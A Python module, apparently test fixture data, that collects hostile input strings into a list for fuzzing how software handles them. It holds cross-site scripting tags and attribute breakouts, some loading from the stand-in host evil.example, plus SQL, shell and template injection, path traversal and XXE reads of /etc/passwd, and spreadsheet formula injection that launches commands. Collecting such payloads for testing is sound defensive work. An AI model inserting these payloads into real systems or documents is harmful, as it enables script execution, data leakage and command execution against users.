"""Strings that have broken pages, pictures and sheets elsewhere: scripts, styles, links, images and formulas."""

_TAGS = """
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=//evil.example/x.js></script>
<script>alert(1)//
<script/src=data:,alert(1)></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script x>alert(1)</script y>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</style><script>alert(1)</script>
</textarea><script>alert(1)</script>
</svg><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<!--<script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src='x' onerror='alert(1)'>
<IMG SRC=JaVaScRiPt:alert(1)>
<img src="javascript:alert(1)">
<img/src/onerror=alert(1)>
<img src=//evil.example/pixel.png>
<img srcset="//evil.example/a.png 1x">
<img src=x:x onerror=alert`1`>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x>
<svg><a xlink:href="javascript:alert(1)"><text>x
<svg><use href="data:image/svg+xml,x#x"/>
<svg><foreignObject><body onload=alert(1)>
<svg><style>@import '//evil.example';
<math><mtext><img src=x onerror=alert(1)>
<math href="javascript:alert(1)">x</math>
<iframe src=javascript:alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
<iframe src=//evil.example></iframe>
<frameset onload=alert(1)>
<object data=javascript:alert(1)>
<object data="data:text/html,<script>x</script>">
<embed src=javascript:alert(1)>
<applet code=x>
<body onload=alert(1)>
<body background=//evil.example/x.png>
<a href=javascript:alert(1)>x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="data:text/html,<script>x</script>">x</a>
<a href=//evil.example ping=//evil.example>x</a>
<a onmouseover=alert(1)>x</a>
<base href=//evil.example/>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=prefetch href=//evil.example>
<meta http-equiv=refresh content="0;//evil.example">
<meta charset=utf-7>
<style>*{background:url(//evil.example)}</style>
<style>@import url(//evil.example/x.css)</style>
<p style="background:url(//evil.example)">
<p style=width:expression(alert(1))>
<div style="position:fixed;inset:0">
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<button formaction=javascript:alert(1)>x
<form action=javascript:alert(1)><input type=submit>
<form><button formaction=//evil.example>x
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen autofocus onfocus=alert(1)>
<video src=x onerror=alert(1)>
<video><source onerror=alert(1)>
<video poster=//evil.example/x.png>
<audio src=x onerror=alert(1)>
<track src=//evil.example onerror=alert(1)>
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<isindex action=javascript:alert(1)>
<table background=//evil.example/x.png>
<td background=javascript:alert(1)>
<noscript><p title="</noscript><img src=x onerror=x>">
<template><script>alert(1)</script></template>
<xmp><script>alert(1)</script></xmp>
<plaintext>
<listing>&lt;script&gt;
<portal src=//evil.example>
<dialog open onclose=alert(1)>
<x onclick=alert(1)>x</x>
<x contenteditable onblur=alert(1)>x
<x tabindex=1 onfocus=alert(1)>x
<custom-tag onpointerenter=alert(1)>
<b/onauxclick=alert(1)>x
<p onwheel=alert(1)>x
<p onanimationstart=alert(1)>x
<%00script>alert(1)</script>
<ſcript>alert(1)</ſcript>
＜script＞alert(1)＜/script＞
‹script›alert(1)‹/script›
%3Cscript%3Ealert(1)%3C/script%3E
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;script&amp;gt;
\\u003cscript\\u003ealert(1)
\\x3cscript\\x3ealert(1)
+ADw-script+AD4-alert(1)
"""

_BREAKS = """
"onmouseover="alert(1)
" autofocus onfocus=alert(1) x="
' onmouseover='alert(1)
'><script>alert(1)</script>
"><script>alert(1)</script>
"><img src=x onerror=alert(1)>
`onmouseover=alert(1)
"/><svg/onload=alert(1)>
'-alert(1)-'
"-alert(1)-"
\\"-alert(1)//
\\';alert(1)//
';alert(1)//
";alert(1)//
*/alert(1)/*
//</script><script>alert(1)
${alert(1)}
{{constructor.constructor('alert(1)')()}}
{{7*7}}
#{7*7}
<%= 7*7 %>
{%import os%}
__proto__
constructor
toString
hasOwnProperty
javascript:alert(1)
JaVaScRiPt:alert(1)
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
data:image/svg+xml,<svg onload=alert(1)>
//evil.example/x
https://evil.example/<script>
file:///etc/passwd
../../../../etc/passwd
..%2f..%2fetc%2fpasswd
C:\\Windows\\win.ini
'; DROP TABLE matches; --
' OR '1'='1
1; SELECT 1
" OR ""="
$(reboot)
`reboot`
; reboot
| reboot
& reboot
%s%s%s%n
%d %x %p
{0.__class__}
{self}
[x](javascript:alert(1))
![x](//evil.example/x.png)
[x]: javascript:alert(1)
<javascript:alert(1)>
[<script>alert(1)</script>](x)
null
undefined
NaN
true
-0
1e309
[object Object]
]]>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>
&e;
&xxe;
<?xml version="1.0"?>
<?php phpinfo() ?>
<!--#exec cmd="ls" -->
<x:include href="file:///etc/passwd"/>
"""

_FORMULAS = """
=1+1
=cmd|'/C calc'!A0
=HYPERLINK("//evil.example","x")
=IMPORTXML("//evil.example","//a")
=WEBSERVICE("//evil.example")
=DDE("cmd";"/C calc";"x")
+1+1
+cmd|'/C calc'!A0
-1+1
-2+3+cmd|'/C calc'!A0
@SUM(1+1)
@A1
＝1+1
＋1+1
－1+1
＠SUM(1)
"=1+1
'=1+1
,=1+1
;=1+1
"""

_SIGNS = (
    "\u202egnp.exe", "\u2066hidden\u2069", "\u200b=1+1", "\ufeff=1+1", "zero\u200bwidth", "a\u0300" * 20, "Z̸̡͍a̶l̷g̸o̵",
    "\u00a0=1+1", "ﷺ" * 10, "𝕊𝕔𝕣𝕚𝕡𝕥", "👩‍👩‍👧‍👦", "🏳️‍🌈", "¯\\_(ツ)_/¯", "مرحبا", "שלום", "日本語", "ℌ𝔢𝔩𝔩𝔬",
    "\u00ad\u00adsoft", "İstanbul", "ﬁ",
)  # fmt: skip

ATTACKS = [line for block in (_TAGS, _BREAKS, _FORMULAS) for line in block.strip().splitlines()] + list(_SIGNS)
